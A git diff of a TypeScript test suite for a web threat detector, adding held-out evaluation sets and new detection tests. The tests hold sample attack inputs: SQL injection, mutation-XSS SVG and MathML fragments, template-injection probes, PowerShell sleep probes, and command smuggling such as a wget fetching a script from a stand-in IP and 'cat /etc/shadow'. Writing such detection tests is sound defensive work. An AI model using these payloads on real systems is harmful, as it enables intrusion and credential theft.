@@ -9,7 +9,10 @@
  * Windows file list, split the same way. Set D: lists none of the others use (payloadbox's XSS, quick and
  * sqlmap SQL, SSRF, RFI, SSI, Linux files), browser user agents, GitHub webhook bodies and generated
  * form values, split the same way. Set E: GoTestWAF's and waf-bypass's own cases, sent where each says, and the
- * Big List of Naughty Strings, split the same way. They measure whether the engine generalises beyond the corpora its rules were
+ * Big List of Naughty Strings, split the same way. Set F: nuclei's DAST templates sent where their fuzzing rules
+ * put them, and DOMPurify's and bleach's test inputs, split the same way. Set G: benign traffic only (an access log replayed, user
+ * agents, cookies, Japanese and Russian interface text, CSS, Markdown and the HTML it renders), split the same
+ * way. They measure whether the engine generalises beyond the corpora its rules were
  * tuned on: no rule is written from their lines, and the ceilings and floors only keep a change from
  * doing worse than `bench/detection-heldout.ts` measured. Tighten them when the engine gets better;
  * never loosen them to let a change through.
@@ -18,7 +21,7 @@ import { describe, expect, it } from "@effect/vitest"
 import { Effect } from "effect"
 import { ThreatDetector } from "../../src/ThreatDetector.js"
 import { bodyOf } from "../../src/internal/scanBody.js"
-import { type HeldoutBRow, loadHeldout, loadHeldoutB, loadHeldoutC, loadHeldoutD, loadHeldoutE } from "../fixtures/heldout/heldout.js"
+import { type HeldoutBRow, loadHeldout, loadHeldoutB, loadHeldoutC, loadHeldoutD, loadHeldoutE, loadHeldoutF, loadHeldoutG } from "../fixtures/heldout/heldout.js"
 import { rate, runCorpus, sumTallies } from "./externalCorpus.js"
 import { expectVerdicts } from "./harness.js"
 
@@ -57,6 +60,13 @@ const HELDOUT_RECALL_FLOOR = 0.96
  * own user agents, mail session commands, here-strings into the shell, Java expressions reaching a
  * class loader, a word between Unicode paragraph separators read as a command line) 0.872 and 0.869
  * recall, 1/238 and 1/254 refused.
+ *
+ * Set F measured at a5ff2c3, before any rule was written from it: dev 0.955 (361/378) and 0.200 (14/70); test
+ * 0.974 (417/428) and 0.184 (14/76). Its benign rows are HTML fragments of comment text (bleach's and
+ * DOMPurify's harmless inputs), which the engine refused one in five of. After the classes its dev half
+ * showed (closed SVG and MathML islands, PowerShell's Start-Sleep after a separator, template probes that
+ * compute through a filter, a quoted link's query flags): dev 0.992 (375/378) and 0.057 (4/70), test
+ * 0.988 (423/428) and 0.079 (6/76).
  */
 const SPLIT_SETS = {
   B: {
@@ -82,6 +92,12 @@ const SPLIT_SETS = {
     size: { attacks: 400, benign: 200 },
     dev: { recall: 0.91, refused: 0.002 },
     test: { recall: 0.88, refused: 0.002 }
+  },
+  F: {
+    load: loadHeldoutF,
+    size: { attacks: 350, benign: 60 },
+    dev: { recall: 0.98, refused: 0.06 },
+    test: { recall: 0.98, refused: 0.08 }
   }
 } as const
 
@@ -111,6 +127,39 @@ for (const [name, set] of Object.entries(SPLIT_SETS)) {
     })
   })
 }
+
+/**
+ * Set G holds benign traffic only: an access log replayed with its Referers and user agents and shipped as
+ * log lines, a parser's test user agents, popular sites' cookies, Japanese and Russian interface text, CSS
+ * and Markdown tables with the HTML they render, each where a request carries it. Measured at a5ff2c3
+ * before any rule change: dev 0.000 (0/578) and test 0.000 (0/570) refused at the default level; at level 2
+ * dev 0.002 (1/578: a cookie whose quoted value holds `=` and `&`), test 0.000 (0/570).
+ */
+const SET_G = { size: 500, refused: { dev: 0.002, test: 0.002 } } as const
+
+describe("held-out set G", () => {
+  for (const half of ["dev", "test"] as const) {
+    it.effect(`${half} half: refuses at most its ceiling of real traffic at the default level`, () =>
+      Effect.gen(function*() {
+        const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
+        const r = yield* runCorpus(detector, loadHeldoutG(half))
+        const refused = sumTallies(r.refusedBySource)
+        expect(refused.total).toBeGreaterThan(SET_G.size)
+        const rows = half === "dev"
+          ? r.falsePositives.slice(0, 20).map((f) => `${f.row.source} #${f.row.id}`).join("\n")
+          : `${r.falsePositives.length} rows (the test half is not listed)`
+        expect(rate(refused), rows).toBeLessThanOrEqual(SET_G.refused[half])
+      }), { timeout: 120_000 })
+  }
+
+  it("puts every row in one half by a hash of what it is made from, both halves about the same size", () => {
+    const rows: ReadonlyArray<HeldoutBRow> = loadHeldoutG()
+    const dev = rows.filter((row) => row.half === "dev").length
+    expect(dev + rows.filter((row) => row.half === "test").length).toBe(rows.length)
+    expect(rows.every((row) => row.expect === "benign")).toBe(true)
+    expect(Math.abs(dev / rows.length - 0.5)).toBeLessThan(0.05)
+  })
+})
 
 describe("held-out benign text", () => {
   it.effect("refuses at most the measured share of real documentation text at the default level", () =>
@@ -276,6 +325,17 @@ describe("classes from held-out set E", () => {
       expect((yield* query("ns:lang=en&x-trace-id=ab12&v1.2=ok")).isThreat).toBe(false)
     }))
 
+  it.effect("reads a form body's field cut at its `=` as a query parameter is; a body sent quoted by mistake passes", () =>
+    Effect.gen(function*() {
+      const detector = yield* detectorAt1
+      const form = (text: string) => Effect.map(detector.detect({ path: "/submit", body: { kind: "form", text } }), (r) => r.isThreat)
+      expect(yield* form("3/**/or/**/5=5&page=1")).toBe(true)
+      expect(yield* form("nick%27%20OR%20%27q%27=%27q")).toBe(true)
+      expect(yield* form("\"note=see a = b, then c\"")).toBe(false)
+      expect(yield* form("'comment=x = y'&lang=en")).toBe(false)
+      expect(yield* form("user.name=Ann&filter[size]=M&ns:lang=en")).toBe(false)
+    }))
+
   it.effect("reads the rest of a bracketed name past its eighth index as one value", () =>
     Effect.gen(function*() {
       const detector = yield* detectorAt1
@@ -306,4 +366,42 @@ describe("classes from held-out set E", () => {
       expect((yield* json(JSON.stringify({ note: "\ntime\n" }))).isThreat).toBe(false)
       expect((yield* json(JSON.stringify({ note: "\nwhoami" }))).isThreat).toBe(true)
     }))
+})
+
+/** Classes set F's dev half showed, written from their own variants, not its lines. */
+describe("classes from held-out set F", () => {
+  it.effect("passes a closed SVG icon or MathML formula; an island left open or holding more than a picture still counts", () =>
+    expectVerdicts(
+      [
+        "<svg viewBox=\"0 0 24 24\" width=\"16\"><path d=\"M12 2 2 7l10 5 10-5z\"/><circle cx=\"12\" cy=\"18\" r=\"2\"/></svg>",
+        "<svg><use xlink:href=\"#icon-cart\"></use></svg> Cart (2)",
+        "<math><mfrac><mn>1</mn><msqrt><mi>x</mi></msqrt></mfrac></math> is the answer",
+        "<svg><linearGradient id=\"g\"><stop offset=\"0\"/></linearGradient><text x=\"4\">Sale</text></svg>"
+      ],
+      [
+        "<math><mtext><table><mglyph><style><!--</style>",
+        "<svg><p><style><a title=\"</style>\">",
+        "<svg><a xlink:href=\"https://login.example.net/\"><text>Sign in</text></a></svg>",
+        "<svg><image href=\"https://203.0.113.9/x.svg\"/></svg>",
+        "<math display=\"block\"><mi>x</mi>"
+      ]
+    ))
+
+  it.effect("refuses PowerShell's Start-Sleep after a separator, as sleep; a sentence naming the cmdlet passes", () =>
+    expectVerdicts(
+      ["Use Start-Sleep -Seconds 2 between retries", "bedtime; start-sleep routine for toddlers"],
+      ["7; Start-Sleep -Milliseconds 9000", "id|start-sleep 20"]
+    ))
+
+  it.effect("refuses a template expression that computes on numbers through a filter or a printing tag; filters on variables pass", () =>
+    expectVerdicts(
+      ["{{ price | times: 2 }}", "{{ value|add:\"2\" }}", "{math equation=\"x*y\" x=3 y=4}", "{% raw %}{{ name }}{% endraw %}"],
+      ["{{ 3 | plus: 4 }}", "{{12|add:\"30\"}}", "{%- print 6*6 -%}", "{math equation=\"9+9\"}"]
+    ))
+
+  it.effect("passes an HTML link whose query has a flag named like a command; a command in a link with a shell's own characters still counts", () =>
+    expectVerdicts(
+      ["<a href=\"/search?q=boots&amp;sort\">next page</a>", "see <a href='/docs?v=2&more'>the docs</a>", "<img src=\"/thumb?w=3&head\">"],
+      ["<a href=\"/files?name=a;id\">x</a>", "x\" href=\"/a?b=1&wget http://203.0.113.9/x.sh\">", "<a href=\"/a\">b</a>&&cat /etc/shadow"]
+    ))
 })
